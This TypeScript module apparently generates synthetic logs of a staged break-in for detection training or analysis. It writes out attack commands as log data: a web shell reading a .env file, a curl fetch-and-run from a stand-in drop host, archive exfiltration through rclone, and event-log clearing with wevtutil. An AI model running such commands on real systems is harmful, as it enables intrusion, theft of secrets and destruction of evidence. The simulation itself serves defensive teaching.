import {
  APP_SERVER,
  ATTACKER,
  ATTACKER_AGENT,
  BREACHED_WEB,
  CUSTOMERS,
  DB_SERVER,
  DOMAIN,
  DROP_SITE,
  FILE_SERVER,
  type Machine,
  SHOP,
  STOLEN_ACCOUNT,
  WORKSTATIONS,
} from './cast.ts'
import type { Random } from './random.ts'
import { minutes, type Step, seconds } from './step.ts'
import {
  accessLine,
  authLine,
  linuxProcess,
  logon,
  SECURITY,
  shopLogin,
  sysmonConnection,
  sysmonProcess,
  windowsEvent,
} from './wire.ts'

const REFUSED_LOGINS = 260

/** When each act begins, after the curtain. */
export const ACT_STARTS = [0, seconds(40), minutes(3), minutes(4.75), minutes(7), minutes(8.25)] as const
export const STORY_END = minutes(9)

/** The five acts of the break-in, in the order in which they happen. */
export function attack(random: Random): readonly Step[] {
  return [
    ...credentialStuffing(random),
    ...webShell(random),
    ...lateralMovement(random),
    ...exfiltration(random),
    ...logClearing(random),
  ]
}

function request(
  at: number,
  act: number,
  method: string,
  target: string,
  status: number,
  bytes: number,
  referrer?: string,
): Step {
  const about = { host: BREACHED_WEB, client: ATTACKER, agent: ATTACKER_AGENT, method, target, status, bytes }
  return {
    at,
    act,
    source: 'access',
    record: (time) => accessLine(time, referrer === undefined ? about : { ...about, referrer }),
  }
}

/** Act 1: a list of leaked passwords against the login page, one address, many accounts; two of them fit. */
function credentialStuffing(random: Random): readonly Step[] {
  const start = ACT_STARTS[1]
  const steps: Step[] = []
  const attempt = (at: number, user: string, outcome: 'success' | 'failure'): void => {
    const page = `https://${SHOP}/login`
    steps.push(request(at, 1, 'POST', '/login', outcome === 'success' ? 302 : 401, outcome === 'success' ? 0 : 512, page))
    steps.push({ at: at + 20, act: 1, source: 'app', record: (time) => shopLogin(time, BREACHED_WEB, user, ATTACKER, outcome) })
  }
  const pace = seconds(115) / REFUSED_LOGINS
  for (let index = 0; index < REFUSED_LOGINS; index++) {
    attempt(start + Math.round(index * pace) + random.between(0, 200), CUSTOMERS[(index * 7) % CUSTOMERS.length]!, 'failure')
  }
  const end = start + seconds(118)
  attempt(end, 'sota.hayashi@mail.example', 'success')
  attempt(end + seconds(6), 'mei.abe@mail.example', 'success')
  return steps
}

/** Act 2: the account may upload a picture; what it uploads is a program, which reads the shop's settings. */
function webShell(random: Random): readonly Step[] {
  const start = ACT_STARTS[2]
  const shell = `/uploads/avatars/${random.hex(8)}.php`
  const fpm = { executable: '/usr/sbin/php-fpm', pid: 1_204 }
  const steps: Step[] = [
    request(start, 2, 'GET', '/account', 200, 8_112),
    request(start + seconds(9), 2, 'POST', '/account/avatar', 201, 88, `https://${SHOP}/account`),
  ]
  const run = (later: number, command: string): void => {
    const at = start + later
    const pid = random.between(20_000, 30_000)
    steps.push(
      request(at, 2, 'GET', `${shell}?c=${encodeURIComponent(command).replaceAll('%20', '+')}`, 200, random.between(60, 900)),
    )
    steps.push({
      at: at + 40,
      act: 2,
      source: 'agent',
      record: (time) =>
        linuxProcess(time, {
          host: BREACHED_WEB,
          user: 'www-data',
          pid,
          executable: '/bin/sh',
          commandLine: `sh -c ${command}`,
          parent: fpm,
        }),
    })
  }
  run(seconds(20), 'id')
  run(seconds(28), 'uname -a')
  run(seconds(39), 'cat /var/www/shop/.env')
  run(seconds(57), `curl -s http://${DROP_SITE}/t -o /tmp/.t; chmod +x /tmp/.t; /tmp/.t`)
  steps.push({
    at: start + seconds(66),
    act: 2,
    source: 'auth',
    record: (time) =>
      authLine(
        time,
        BREACHED_WEB,
        'sudo',
        24_771,
        'www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/shop ; USER=root ; COMMAND=/usr/bin/id',
      ),
  })
  return steps
}

const EXPLORER = 'C:\\Windows\\explorer.exe'
const SHELL = 'C:\\Windows\\System32\\cmd.exe'

function command(
  at: number,
  act: number,
  host: Machine,
  random: Random,
  image: string,
  commandLine: string,
  parent = SHELL,
): Step {
  const pid = random.between(3_000, 9_000)
  return {
    at,
    act,
    source: 'windows',
    record: (time) => sysmonProcess(time, { host, user: STOLEN_ACCOUNT, pid, image, commandLine, parent }),
  }
}

/** Act 3: the settings held a password that opens remote desktop everywhere; from host to host in two minutes. */
function lateralMovement(random: Random): readonly Step[] {
  const start = ACT_STARTS[3]
  const steps: Step[] = []
  const visits: readonly Machine[] = [APP_SERVER, WORKSTATIONS[1]!, DB_SERVER, FILE_SERVER]
  for (const [index, host] of visits.entries()) {
    const at = start + index * seconds(24)
    steps.push({ at, act: 3, source: 'windows', record: (time) => logon(time, host, STOLEN_ACCOUNT, 10, BREACHED_WEB.address) })
    steps.push({
      at: at + 30,
      act: 3,
      source: 'windows',
      record: (time) =>
        windowsEvent(time, {
          ...SECURITY,
          host,
          eventId: 4672,
          message: 'Special privileges assigned to new logon.',
          data: {
            SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1131',
            SubjectUserName: STOLEN_ACCOUNT,
            SubjectDomainName: DOMAIN,
            PrivilegeList: 'SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege',
          },
        }),
    })
  }
  const survey: readonly (readonly [program: string, options: string])[] = [
    ['whoami', '/all'],
    ['ipconfig', '/all'],
    ['systeminfo', ''],
    ['nltest', '/dclist:sakura'],
    ['net', 'group "Domain Admins" /domain'],
    ['quser', ''],
  ]
  const arrived = start + visits.length * seconds(24)
  for (const [index, [program, options]] of survey.entries()) {
    const image = `C:\\Windows\\System32\\${program}.exe`
    steps.push(command(arrived + index * seconds(4), 3, FILE_SERVER, random, image, `${program} ${options}`.trim()))
  }
  return steps
}

/** Act 4: everything on the file server into an archive with a password, and out with a copying tool. */
function exfiltration(random: Random): readonly Step[] {
  const start = ACT_STARTS[4]
  const archive = 'C:\\ProgramData\\a.7z'
  const rclone = 'C:\\ProgramData\\rclone.exe'
  const steps: Step[] = [
    command(
      start,
      4,
      FILE_SERVER,
      random,
      'C:\\Program Files\\7-Zip\\7z.exe',
      `7z.exe a -mhe=on -pS4kura! ${archive} D:\\Shares\\Customers`,
      SHELL,
    ),
    command(
      start + seconds(21),
      4,
      FILE_SERVER,
      random,
      rclone,
      `rclone.exe copy ${archive} mega:in --transfers 8 --no-check-certificate`,
      SHELL,
    ),
  ]
  for (let index = 0; index < 3; index++) {
    steps.push({
      at: start + seconds(23 + index),
      act: 4,
      source: 'windows',
      record: (time) => sysmonConnection(time, FILE_SERVER, rclone, STOLEN_ACCOUNT, DROP_SITE, 443),
    })
  }
  return steps
}

/** Act 5: the traces. What had already left the host cannot be cleared there. */
function logClearing(random: Random): readonly Step[] {
  const start = ACT_STARTS[5]
  const cleared = (at: number, channel: string, eventId: number): Step => ({
    at,
    act: 5,
    source: 'windows',
    record: (time) =>
      windowsEvent(time, {
        host: FILE_SERVER,
        channel,
        provider: 'Microsoft-Windows-Eventlog',
        eventId,
        message: eventId === 1102 ? 'The audit log was cleared.' : 'The System log file was cleared.',
        data: { SubjectUserName: STOLEN_ACCOUNT, SubjectDomainName: DOMAIN, ...(eventId === 104 ? { Channel: 'System' } : {}) },
      }),
  })
  return [
    command(start, 5, FILE_SERVER, random, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security', EXPLORER),
    cleared(start + 400, 'Security', 1102),
    command(start + seconds(3), 5, FILE_SERVER, random, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl System', EXPLORER),
    cleared(start + seconds(3) + 400, 'System', 104),
  ]
}
